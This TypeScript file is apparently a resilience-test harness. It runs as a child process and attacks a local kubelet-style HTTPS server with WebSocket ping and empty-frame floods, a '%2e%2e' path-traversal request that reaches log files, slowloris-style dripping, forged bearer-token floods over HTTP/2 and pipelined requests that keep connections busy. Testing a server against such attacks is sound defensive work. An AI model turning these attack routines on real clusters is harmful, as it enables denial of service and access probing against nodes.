/**
 * Peers of a kubelet's HTTPS server that mean harm, as a process of its own: everything at once until it is killed, at a
 * pace that needs no great machine. The first message names the target; the answer to each other message is the counts.
 */
import { randomBytes } from "node:crypto";
import { connect as connectHttp2 } from "node:http2";
import { setTimeout as pause } from "node:timers/promises";
import { connect, type TLSSocket } from "node:tls";
import type { PemIdentity } from "./apiServer/certificates.ts";
import { maskedFrame, OPCODE } from "./webSocketBytes.ts";

/** Target and credentials of an attack. */
export interface Attack {
  readonly port: number;
  /** Two identities of the same user; the second is valid once the first is not. */
  readonly identities: readonly [PemIdentity, PemIdentity];
  /** Namespace, pod and container as a path. */
  readonly container: string;
  /** A file of /var/log that is larger than anybody's memory should grow. */
  readonly bigLog: string;
}

/** Rounds of each attack that its server ended, or that its peer gave up. */
export type AttackCounts = Readonly<Record<string, number>>;

const HEADERS_END = "\r\n\r\n";
const TICK_MS = 20;
const NO_PIECE = Buffer.alloc(0);

const ended: Record<string, number> = {};

/** Runs an attack `count` times at once, each again `againMs` after its end; they begin `apartMs` after each other. */
function keep(
  name: string,
  { count, apartMs, againMs }: { readonly count: number; readonly apartMs: number; readonly againMs: number },
  round: (at: number) => Promise<void>,
): void {
  ended[name] = 0;
  const repeat = async (at: number): Promise<never> => {
    await pause(at * apartMs);
    for (;;) {
      await round(at).catch(() => {});
      ended[name] = (ended[name] ?? 0) + 1;
      await pause(againMs);
    }
  };
  for (let at = 0; at < count; at += 1) void repeat(at);
}

/** Resolves when it is closed, by whichever side. */
const closed = (socket: TLSSocket): Promise<void> =>
  new Promise((resolve) => {
    if (socket.closed) resolve();
    else socket.once("close", () => resolve());
  });

/** Hosts that attack; the administrator is at another one. */
const HOSTS = 50;
let connections = 0;

const nextHost = (): string => `127.0.1.${1 + (connections++ % HOSTS)}`;

/** Connects and shakes hands. */
function open(port: number, identity?: PemIdentity): Promise<TLSSocket> {
  const target = { host: "127.0.0.1", port, localAddress: nextHost(), rejectUnauthorized: false };
  const tls = identity && { cert: identity.certificate, key: identity.key };
  return new Promise((resolve, reject) => {
    const socket = connect({ ...target, ...tls }, () => resolve(socket));
    socket.on("error", reject);
    socket.once("close", () => reject(new Error("closed")));
  });
}

/** Sends a request and resolves with the status of its answer. */
function statusOf(socket: TLSSocket, lines: readonly string[]): Promise<number> {
  return new Promise((resolve, reject) => {
    socket.once("data", (part: Buffer) => resolve(Number(String(part).split(" ")[1])));
    socket.once("close", () => reject(new Error("closed")));
    socket.write([...lines, "Host: node", "", ""].join("\r\n"));
  });
}

const UPGRADE = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"];

/** A WebSocket to a command that reads its input; the identity that counts is found out. */
async function openWebSocket({ port, identities, container }: Attack): Promise<TLSSocket> {
  for (const identity of identities) {
    const socket = await open(port, identity);
    const key = `Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}`;
    const request = `GET /exec/${container}?command=cat&input=1&output=1 HTTP/1.1`;
    const status = await statusOf(socket, [request, ...UPGRADE, key, "Sec-WebSocket-Protocol: v5.channel.k8s.io"]);
    if (status === 101) return socket;
    socket.destroy();
  }
  throw new Error("no identity counts");
}

/** Writes the same bytes, as fast as they are taken but no faster than one piece a tick, until the socket is closed. */
async function flood(socket: TLSSocket, piece: Buffer): Promise<void> {
  while (!socket.destroyed) {
    if (!socket.writableNeedDrain) socket.write(piece);
    await pause(TICK_MS);
  }
}

const repeated = (frame: Buffer, count: number): Buffer => Buffer.concat(Array.from({ length: count }, () => frame));

/** Pings whose pongs nobody reads. */
async function pings(attack: Attack): Promise<void> {
  const socket = await openWebSocket(attack);
  socket.pause();
  await flood(socket, repeated(maskedFrame(OPCODE.ping, Buffer.alloc(125)), 200));
}

/** A message that goes on in empty frames. */
async function emptyFrames(attack: Attack): Promise<void> {
  const socket = await openWebSocket(attack);
  socket.resume();
  socket.write(maskedFrame(OPCODE.binary, Buffer.from([0]), false));
  await flood(socket, repeated(maskedFrame(OPCODE.continuation, NO_PIECE, false), 2_000));
}

/** A path that looks like a stream's and is a file's or a log's, whose answer nobody reads; it leaves after a while. */
async function disguised({ port, identities, container, bigLog }: Attack, at: number): Promise<void> {
  const path = at % 2 === 0 ? `logs/${bigLog}` : `containerLogs/${container}?follow=true`;
  for (const identity of identities) {
    const socket = await open(port, identity);
    const lines = [`GET /exec/%2e%2e/${path} HTTP/1.1`, "Connection: Upgrade", "Upgrade: x"];
    if ((await statusOf(socket, lines)) === 200) {
      socket.pause();
      await Promise.race([closed(socket), pause(5_000)]);
    }
    socket.destroy();
  }
}

/** A connection without credentials that asks at once, or begins to ask and goes on byte by byte. */
async function stranger({ port }: Attack, at: number): Promise<void> {
  const socket = await open(port);
  socket.resume();
  if (at % 2 === 0) socket.write(`GET /pods HTTP/1.1\r\nHost: node${HEADERS_END}`);
  else socket.write("GET /pods HTTP/1.1\r\nX-Slow: ");
  const drip = setInterval(() => socket.write("x"), 1_000);
  await closed(socket);
  clearInterval(drip);
}

/** A hundred requests with tokens that nobody has seen, from an address of its own. */
async function forgedTokens({ port }: Attack): Promise<void> {
  const tls = { host: "127.0.0.1", port, localAddress: nextHost(), rejectUnauthorized: false, ALPNProtocols: ["h2"] };
  const session = connectHttp2(`https://127.0.0.1:${port}`, { createConnection: () => connect(tls) });
  session.on("error", () => {});
  for (let count = 0; count < 100; count += 1) {
    const authorization = `Bearer forged-${randomBytes(16).toString("hex")}`;
    session
      .request({ ":path": "/pods", authorization })
      .on("error", () => {})
      .resume();
  }
  await new Promise<void>((resolve) => session.once("close", () => resolve()));
}

/** A connection of the first identity that is never idle: another request is always behind the one under way. */
async function neverIdle({ port, identities: [identity], container }: Attack): Promise<void> {
  const socket = await open(port, identity);
  const ask = (): unknown =>
    socket.write(`GET /containerLogs/${container}?tailLines=1 HTTP/1.1\r\nHost: node${HEADERS_END}`);
  socket.on("data", (part: Buffer) => {
    if (String(part).includes("HTTP/1.1 200")) setTimeout(ask, TICK_MS);
  });
  for (let ahead = 0; ahead < 4; ahead += 1) ask();
  await closed(socket);
}

function begin(attack: Attack): void {
  keep("pings", { count: 4, apartMs: 100, againMs: 1_000 }, () => pings(attack));
  keep("emptyFrames", { count: 2, apartMs: 250, againMs: 1_000 }, () => emptyFrames(attack));
  keep("disguised", { count: 8, apartMs: 200, againMs: 1_000 }, (at) => disguised(attack, at));
  keep("strangers", { count: 1_024, apartMs: 10, againMs: 20_000 }, (at) => stranger(attack, at));
  keep("forgedTokens", { count: HOSTS, apartMs: 200, againMs: 10_000 }, () => forgedTokens(attack));
  keep("neverIdle", { count: 4, apartMs: 100, againMs: 60_000 }, () => neverIdle(attack));
}

let hasBegun = false;
process.on("message", (message: Attack) => {
  if (hasBegun) process.send?.(ended);
  else begin(message);
  hasBegun = true;
});
process.once("disconnect", () => process.exit());
